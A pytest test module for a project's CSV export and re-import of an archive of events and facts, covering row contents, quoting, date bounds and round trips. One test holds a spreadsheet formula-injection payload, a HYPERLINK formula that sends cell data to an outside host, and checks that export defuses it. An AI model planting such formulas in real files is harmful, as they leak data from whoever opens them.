"""The table of facts, and what an import makes of it again."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, assume, given, settings

from chronicle.event.canonical import to_plain
from chronicle.event.model import Event
from chronicle.service import Archive
from tests.builders import CHRONICLE, a_fact, a_source, an_archive, an_attribute, an_entity, an_event
from tests.exchange.archives import an_empty_archive, exported, load_text
from tests.exchange.importing import assert_it_loads, imported
from tests.project.checkout import ROOT
from tests.service.test_laws import kept
from tests.state.histories import Append, histories

several = settings(max_examples=20, suppress_health_check=list(HealthCheck))


def table(archive: Archive, **bounds: Any) -> list[dict[str, str]]:
    """The rows by the names of their columns."""
    text = exported(archive, "csv", **bounds).decode()
    return list(csv.DictReader(io.StringIO(text, newline=""), strict=True))


def facts(archive: Archive) -> list[tuple[Any, ...]]:
    """What the effective events state, with their date and sources; values as they are *the same*."""
    found = []
    for one in archive.events(as_of="3000").events:
        event = one.event
        for fact in event.facts:
            plain = to_plain(fact)
            plain.pop("value", None)
            plain["sources"] = [to_plain(citation) for citation in fact.sources or event.sources]
            same = None if fact.value is None else fact.value.same
            found.append((event.id, event.type, event.occurred, event.title, same, plain))
    return found


def test_a_row_for_each_fact() -> None:
    """With what is needed to read it alone."""
    with an_archive(
        a_source(url="https://example.org/a"),
        an_entity("bp", label="British Petroleum"),
        an_event(
            "e",
            a_fact(
                {"amount": "-1.55e9", "unit": "USD", "qualifier": "about"},
                period="2025",
                dimensions={"b": "2", "a": "1"},
            ),
            a_fact({"low": 7, "high": 8, "unit": "GW"}, attribute="range", due="unknown"),
            a_fact({"entity": "bp"}, attribute="partner", until="2030"),
            a_fact(None, attribute="denied", holds=False),
            occurred="1994~",
            sources=["s"],
        ),
    ) as archive:
        quantity, span, entity, denial = table(archive)
    assert {
        "chronicle": "c",
        "event": "e",
        "occurred": "1994~",
        "earliest": "1994-01-01",
        "latest": "1994-12-31",
    }.items() <= quantity.items()
    assert {
        "amount": "-1.55e9",
        "unit": "USD",
        "qualifier": "about",
        "period": "2025",
        "dimensions": "a=1|b=2",
    }.items() <= quantity.items()
    assert {
        "reported": "2025-06-01T23:59:59Z",
        "sources": "s",
        "source_urls": "https://example.org/a",
    }.items() <= quantity.items()
    assert {"low": "7", "high": "8", "unit": "GW", "due": "unknown", "amount": ""}.items() <= span.items()
    assert {
        "value": "bp",
        "value_type": "entity",
        "label": "British Petroleum",
        "until": "2030",
    }.items() <= entity.items()
    assert {"holds": "false", "value": "", "value_type": ""}.items() <= denial.items()


def test_it_is_rfc_4180() -> None:
    """UTF-8 without a mark, lines that end with CRLF, quotes where they are needed and doubled within."""
    with an_archive(an_event("e", a_fact('she said "a, b"\nand ə'))) as archive:
        text = exported(archive, "csv")
    assert text.startswith(b"chronicle,event,")
    assert b'"she said ""a, b""\nand \xc9\x99"' in text
    assert text.endswith(b"\r\n")


def test_an_attack_is_text() -> None:
    """A title or a value that a spreadsheet would run."""
    attack = '=HYPERLINK("http://example.org/?x="&A1)'
    with an_archive(an_event("e", a_fact(attack), title="@SUM(1)")) as archive:
        [row] = table(archive)
    assert f"'{attack}" == row["value"]
    assert "'@SUM(1)" == row["title"]


def test_events_without_facts_are_told() -> None:
    """They have no row, and do not go silently."""
    with an_archive(an_event("bare"), an_event("e", a_fact("x"))) as archive:
        assert ((("c", "event", "bare"), "states no fact"),) == archive.export(to="csv").left_out


def test_only_what_was_known_by_then() -> None:
    """The bounds of the question are those of `events`."""
    with an_archive(a_source(published="2025-06-01"), an_event("e", a_fact("x"), sources=["s"])) as archive:
        assert [] == table(archive, known="2025-05")
        assert ["e"] == [row["event"] for row in table(archive, known="2025-06")]


def test_the_same_basis_gives_the_same_bytes() -> None:
    """Whatever is appended after the position."""
    with an_archive(an_event("e", a_fact("x"))) as archive:
        before = exported(archive, "csv", as_of="2026", position=1)
        archive.append([an_event("e", a_fact("y"))], chronicle=CHRONICLE)
        assert before == exported(archive, "csv", as_of="2026", position=1)
        assert before != exported(archive, "csv", as_of="2026")


@several
@given(histories())
def test_facts_come_back(appends: list[Append]) -> None:
    """Exported, imported and loaded elsewhere: the same facts, of the same dates and sources."""
    with kept(appends) as archive, an_empty_archive() as other:
        assume(facts(archive))
        found = imported(exported(archive, "csv", as_of="3000").decode(), "csv")
        assert ["table"] == [problem.code for problem in found.problems]  # that it lacks what a table lacks
        load_text(other, found.as_jsonl())
        assert sorted(map(repr, facts(archive))) == sorted(map(repr, facts(other)))


@pytest.mark.parametrize("chronicle", ["azerbaijan-us", "us-executive"])
def test_the_curated_facts_come_back(tmp_path: Path, chronicle: str) -> None:
    """And the state that they make."""
    with an_empty_archive() as archive, an_empty_archive() as other:
        archive.load(ROOT / "events" / chronicle)
        found = imported(exported(archive, "csv", as_of="2026-03-01").decode(), "csv")
        assert_it_loads(found, tmp_path)
        load_text(other, found.as_yaml(), ".yaml")
        assert sorted(map(repr, facts(archive))) == sorted(map(repr, facts(other)))
        states = [
            [(fact.row.key[1:], fact.value.same, fact.row.certain) for fact in one.state(as_of="2026-03-01").facts]
            for one in (archive, other)
        ]
        assert states[0] == states[1] != []


def test_every_kind_of_value_comes_back() -> None:
    """Text that looks like a number or a formula, flags, numbers, and citations with all there is in them."""
    values = ["16", "true", "=1+1", "'=x", "a|b\\c", True, False, Decimal("-0.50"), {"entity": "e"}]
    many = [a_fact(value, attribute=f"a{index}") for index, value in enumerate(values)]
    odd = a_source("odd", title="A | B \\ C", author="=cmd", language="en")
    event = an_event("x", *many, title="-1 is a title", occurred="-0044-03-15")
    event["sources"] = [{"source": "odd", "locator": "p. 1|2", "quote": "line\nline"}, {"source": "s"}]
    event["facts"][0]["sources"] = [{"source": "s", "locator": "only here"}]
    with an_archive(a_source(), odd, an_entity(), an_attribute("a3", cardinality="many"), event) as archive:
        found = imported(exported(archive, "csv").decode(), "csv")
        assert ["table"] == [problem.code for problem in found.problems]  # that it lacks what a table lacks
        with an_empty_archive() as other:
            load_text(other, found.as_jsonl())
            assert facts(archive) == facts(other)
            [record] = other.show("odd")
            assert record.document == archive.show("odd")[0].document
            [event_again] = [one.document for one in other.show("x")]
            assert isinstance(event_again, Event)
            assert "-1 is a title" == event_again.title
